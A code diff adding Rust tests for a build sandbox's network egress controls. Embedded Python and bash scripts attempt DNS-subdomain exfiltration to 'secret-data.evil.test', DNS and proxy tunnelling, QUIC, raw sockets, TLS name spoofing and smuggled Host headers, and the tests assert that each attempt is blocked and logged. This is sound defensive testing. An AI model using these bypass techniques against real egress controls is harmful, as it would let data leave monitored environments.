@@ -216,3 +216,290 @@ fn audit_holds_nothing_back() {
     assert_eq!(seen.trace.network, "observed");
     assert_eq!(errno(&seen, EventKind::Connect, &format!("tcp:{}", outside.address)), Some(0));
 }
+
+/// Everything else that leads out, by whatever road.
+#[test]
+fn other_roads_are_closed_and_recorded() {
+    let (_keep, folder) = folder();
+    let outside = Server::start("hello");
+    let script = r#"
+import struct
+def ask(name, kind=1):
+    return b"\xab\xcd\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l for l in name.encode().split(b".")) + b"\0" + struct.pack(">HH", kind, 1)
+def query(name, server, kind=1):
+    u = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
+    u.sendto(ask(name, kind), (server, 53)); answer, peer = u.recvfrom(999)
+    assert peer[0] == server, peer
+    return answer[3] & 15, answer[7], answer
+assert query("evil.test", "8.8.8.8")[:2] == (3, 0)
+assert query("allowed.test", "8.8.8.8")[:2] == (0, 1)
+assert query("allowed.test", "127.0.0.53")[:2] == (0, 1)
+assert query("secret-data.evil.test", "2001:db8::53", 16)[:2] == (3, 0)
+assert query("allowed.test", "8.8.8.8", 16)[:2] == (0, 0)
+assert query("allowed.test", "8.8.8.8", 65)[:2] == (0, 0)
+t = socket.create_connection(("9.9.9.9", 53), 5)
+for name, code in ("tunnel.evil.test", 3), ("allowed.test", 0):
+    m = ask(name); t.sendall(struct.pack(">H", len(m)) + m)
+    length, = struct.unpack(">H", t.recv(2)); assert t.recv(length)[3] & 15 == code
+assert fails(lambda: socket.create_connection(("9.9.9.9", 853), 5)).errno == 13
+four = socket.getaddrinfo("allowed.test", 443, socket.AF_INET)[0][4][0]
+six = socket.getaddrinfo("allowed.test", 443, socket.AF_INET6)[0][4][0]
+assert fails(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"quic", (four, 443))).errno == 13
+assert fails(lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"quic", (six, 443))).errno == 13
+q = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); q.connect((four, 443))
+def twice(): q.send(b"quic"); import time; time.sleep(0.05); q.send(b"quic")
+fails(twice)
+assert fails(lambda: socket.create_connection(("2001:db8::1", 443), 5)).errno == 13
+c = socket.create_connection((six, 80), 5); c.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"); assert b"hello" in c.recv(999)
+c = socket.create_connection((four, 443), 5); c.sendall(b"SSH-2.0-tunnel\r\n"); assert c.recv(9) == b""
+fails(lambda: socket.create_connection(("203.0.113.8", 443), 5))
+fails(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
+f = socket.socket(); f.setsockopt(socket.IPPROTO_TCP, 30, 1)
+fails(lambda: f.connect(("192.0.2.9", 443)))
+fails(lambda: socket.socket().sendto(b"x", 0x20000000, ("192.0.2.9", 443)))
+fails(lambda: socket.socket(socket.AF_UNIX).connect("/run/nscd/socket"))
+"#;
+    let mut launch = python(&folder, Egress::Audit, script);
+    allow(&mut launch, "allowed.test\n", outside.address);
+    let seen = done(&launch);
+    assert_eq!(outside.clients(), 1);
+    for (kind, target, number) in [
+        (EventKind::Resolve, "evil.test", 13),
+        (EventKind::Resolve, "secret-data.evil.test", 13),
+        (EventKind::Resolve, "tunnel.evil.test", 13),
+        (EventKind::Connect, "tcp:9.9.9.9:853", 13),
+        (EventKind::Connect, "udp:198.18.0.1:443", 13),
+        (EventKind::Connect, "udp:[fd63:7367:6e00::1]:443", 13),
+        (EventKind::Connect, "tcp:[2001:db8::1]:443", 13),
+        (EventKind::Connect, "tcp:203.0.113.8:443", 13),
+        (EventKind::Connect, "tcp:192.0.2.9:443", 13),
+        (EventKind::Request, "allowed.test:443", 13),
+    ] {
+        assert_eq!(errno(&seen, kind, target), Some(number), "{target} {:#?}", network(&seen));
+    }
+    assert_eq!(why(&seen, EventKind::Request, "allowed.test:443"), "unknown-protocol");
+}
+
+/// A TLS server outside with a certificate of its own making.
+struct Secure {
+    child: std::process::Child,
+    address: SocketAddr,
+}
+
+impl Secure {
+    fn start(folder: &Path) -> Self {
+        let run = |arguments: &[&str]| {
+            let mut command = std::process::Command::new("openssl");
+            command.args(arguments).current_dir(folder).stdout(std::process::Stdio::null());
+            command.stderr(std::process::Stdio::null()).stdin(std::process::Stdio::null());
+            command
+        };
+        let made = run(&[
+            "req",
+            "-x509",
+            "-newkey",
+            "ec",
+            "-pkeyopt",
+            "ec_paramgen_curve:P-256",
+            "-nodes",
+            "-days",
+            "2",
+            "-keyout",
+            "key.pem",
+            "-out",
+            "cert.pem",
+            "-subj",
+            "/CN=allowed.test",
+            "-addext",
+            "subjectAltName=DNS:allowed.test,DNS:other.test",
+        ])
+        .status();
+        assert!(made.unwrap().success());
+        let port = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
+        let child =
+            run(&["s_server", "-accept", &port.to_string(), "-cert", "cert.pem", "-key", "key.pem", "-www"])
+                .spawn()
+                .unwrap();
+        for _ in 0..200 {
+            if TcpStream::connect(port).is_ok() {
+                return Self { child, address: port };
+            }
+            std::thread::sleep(std::time::Duration::from_millis(20));
+        }
+        panic!("no TLS server");
+    }
+}
+
+impl Drop for Secure {
+    fn drop(&mut self) {
+        self.child.kill().ok();
+        self.child.wait().ok();
+    }
+}
+
+#[test]
+fn tls_goes_to_the_name_that_was_asked_for() {
+    let (_keep, folder) = folder();
+    let outside = Secure::start(&folder);
+    let script = "set -e
+        curl -sf --max-time 20 --cacert cert.pem https://allowed.test/ | grep -qi cipher
+        curl -sf --max-time 20 -6 --cacert cert.pem https://allowed.test/ | grep -qi cipher
+        ! curl -sf --max-time 20 -k --connect-to other.test:443:allowed.test:443 https://other.test/
+        ! curl -sf --max-time 20 -k --connect-to evil.test:443:allowed.test:443 https://evil.test/
+        ! curl -sf --max-time 20 -k https://evil.test/
+        ! curl -sf --max-time 20 -k https://192.0.2.1/
+        openssl s_client -connect allowed.test:443 -noservername </dev/null >/dev/null 2>&1 && exit 1
+        exit 0";
+    let mut launch = launch(&folder, &["bash", "-c", script]);
+    allow(&mut launch, "allowed.test\nother.test\n", outside.address);
+    let seen = done(&launch).whole();
+    let hits = network(&seen)
+        .iter()
+        .filter(|l| l.0 == EventKind::Request && l.1 == "allowed.test:443" && l.2 == 0)
+        .count();
+    assert_eq!(hits, 2, "{:#?}", network(&seen));
+    for (target, reason) in
+        [("other.test:443", "server-name-mismatch"), ("evil.test:443", "server-name-mismatch")]
+    {
+        assert_eq!(why(&seen, EventKind::Request, target), reason);
+    }
+    assert!(network(&seen).iter().any(|l| l.1 == "allowed.test:443" && l.2 == 13 && l.3 == "no-server-name"));
+    assert_eq!(errno(&seen, EventKind::Resolve, "evil.test"), Some(13));
+    assert_eq!(errno(&seen, EventKind::Connect, "tcp:192.0.2.1:443"), Some(13));
+}
+
+#[test]
+fn a_listed_proxy_is_asked_only_for_listed_hosts() {
+    let (_keep, folder) = folder();
+    let proxy = Server::start("tunnel");
+    let script = r#"
+def tunnel(to, then=b""):
+    c = socket.create_connection(("proxy.test", 3128), 10)
+    c.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (to, to)).encode())
+    first = c.recv(999)
+    if first and then: c.sendall(then); return c.recv(99)
+    return first
+assert b"tunnel" in tunnel("allowed.test:443")
+assert tunnel("evil.test:443") == b""
+assert tunnel("allowed.test:22") == b""
+assert tunnel("192.0.2.1:443") == b""
+assert tunnel("allowed.test:443", b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n") == b""
+"#;
+    let mut launch = python(&folder, Egress::Audit, script);
+    allow(&mut launch, "proxy.test:3128\nallowed.test\n", proxy.address);
+    let seen = done(&launch).whole();
+    assert_eq!(proxy.clients(), 2);
+    assert_eq!(errno(&seen, EventKind::Request, "allowed.test:443"), Some(0));
+    for target in ["evil.test:443", "allowed.test:22", "192.0.2.1:443"] {
+        assert_eq!(why(&seen, EventKind::Request, target), "not-allowed");
+    }
+}
+
+#[test]
+fn a_port_of_its_own_may_speak_first_or_speak_another_protocol() {
+    let (_keep, folder) = folder();
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let address = listener.local_addr().unwrap();
+    std::thread::spawn(move || {
+        for client in listener.incoming() {
+            let mut client = client.unwrap();
+            client.write_all(b"SSH-2.0-server\r\n").ok();
+            let mut heard = [0; 99];
+            let read = client.read(&mut heard).unwrap_or(0);
+            client.write_all(&heard[..read]).ok();
+        }
+    });
+    let script = r#"
+c = socket.create_connection(("git.test", 22), 10)
+assert c.recv(99) == b"SSH-2.0-server\r\n"
+c.sendall(b"SSH-2.0-client\r\n"); assert c.recv(99) == b"SSH-2.0-client\r\n"
+c = socket.create_connection(("git.test", 22), 10)
+assert c.recv(99) == b"SSH-2.0-server\r\n"
+c.sendall(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"); assert c.recv(99) == b""
+"#;
+    let mut launch = python(&folder, Egress::Audit, script);
+    allow(&mut launch, "git.test:22\n", address);
+    let seen = done(&launch).whole();
+    assert_eq!(errno(&seen, EventKind::Request, "git.test:22"), Some(0));
+    assert_eq!(why(&seen, EventKind::Request, "evil.test:22"), "host-mismatch");
+}
+
+#[test]
+fn many_connections_at_a_time_are_carried() {
+    let (_keep, folder) = folder();
+    let outside = Server::start("many");
+    let script = r#"
+def get(n):
+    c = socket.create_connection(("n%d.allowed.test" % (n % 20), 80), 30)
+    c.sendall(b"GET / HTTP/1.1\r\nHost: n%d.allowed.test\r\n\r\n" % (n % 20)); data = b""
+    while True:
+        more = c.recv(999)
+        if not more: break
+        data += more
+    assert b"many" in data, data
+    good.append(n)
+good = []
+threads = [threading.Thread(target=get, args=(n,)) for n in range(400)]
+[t.start() for t in threads]; [t.join() for t in threads]
+assert len(good) == 400, len(good)
+"#;
+    let mut launch = python(&folder, Egress::Audit, script);
+    allow(&mut launch, "*.allowed.test\n", outside.address);
+    let seen = done(&launch).whole();
+    assert_eq!(outside.clients(), 400);
+    let requests = seen.of(EventKind::Request).count();
+    assert_eq!(requests, 400);
+}
+
+#[test]
+fn a_large_answer_comes_whole_and_the_end_of_each_side_is_passed_on() {
+    let (_keep, folder) = folder();
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let address = listener.local_addr().unwrap();
+    std::thread::spawn(move || {
+        let mut client = listener.accept().unwrap().0;
+        let mut heard = Vec::new();
+        client.read_to_end(&mut heard).unwrap();
+        client.write_all(&heard).unwrap();
+    });
+    let script = r#"
+c = socket.create_connection(("allowed.test", 80), 10)
+body = os.urandom(5000000)
+sent = b"PUT / HTTP/1.1\r\nHost: allowed.test\r\n\r\n" + body
+t = threading.Thread(target=lambda: (c.sendall(sent), c.shutdown(socket.SHUT_WR))); t.start()
+got = b""
+while True:
+    more = c.recv(1 << 16)
+    if not more: break
+    got += more
+assert got == sent
+"#;
+    let mut launch = python(&folder, Egress::Audit, script);
+    allow(&mut launch, "allowed.test\n", address);
+    done(&launch).whole();
+}
+
+#[test]
+fn a_connection_that_stays_open_ends_with_the_build() {
+    let (_keep, folder) = folder();
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let address = listener.local_addr().unwrap();
+    let silent = std::thread::spawn(move || {
+        let mut client = listener.accept().unwrap().0;
+        let mut heard = Vec::new();
+        client.read_to_end(&mut heard).ok();
+        heard.len()
+    });
+    let script = r#"
+c = socket.create_connection(("allowed.test", 80), 10); c.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
+d = socket.create_connection(("allowed.test", 80), 10)
+import time; time.sleep(0.3); os._exit(0)
+"#;
+    let mut launch = python(&folder, Egress::Audit, script);
+    allow(&mut launch, "allowed.test\n", address);
+    let before = std::time::Instant::now();
+    let seen = done(&launch).whole();
+    assert!(before.elapsed() < std::time::Duration::from_secs(4));
+    assert_eq!(errno(&seen, EventKind::Request, "allowed.test:80"), Some(0));
+    assert_eq!(silent.join().unwrap(), 38);
+}
